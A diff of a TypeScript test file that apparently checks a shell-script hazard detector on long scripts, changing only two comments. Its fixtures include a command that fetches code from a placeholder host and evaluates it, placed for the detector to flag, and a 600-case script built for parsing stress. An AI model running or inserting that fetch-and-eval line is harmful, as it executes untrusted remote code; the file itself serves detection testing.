@@ -3,7 +3,7 @@ import { longScript } from "../../bench/scripts.js";
 import { sharedDetector } from "../support/marked.js";
 import { assertSound } from "./invariants.js";
 
-/** Commands behind the functions of a script: the marked one is reached through functions that were called many times before. */
+/** Commands after the functions of a script; the marked one is in functions that were called many times before. */
 const endings: Readonly<Record<string, string>> = {
   "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
   "a function that executes what it is given":
@@ -60,7 +60,7 @@ describe("long scripts", { timeout: 120_000 }, () => {
   });
 });
 
-/** More than are parsed in one piece. */
+/** More arms than are parsed at once. */
 const manyArms = Array.from(
   { length: 600 },
   (_, at) => `  ${String(at)}) check && run_${String(at)} ;;\n`,
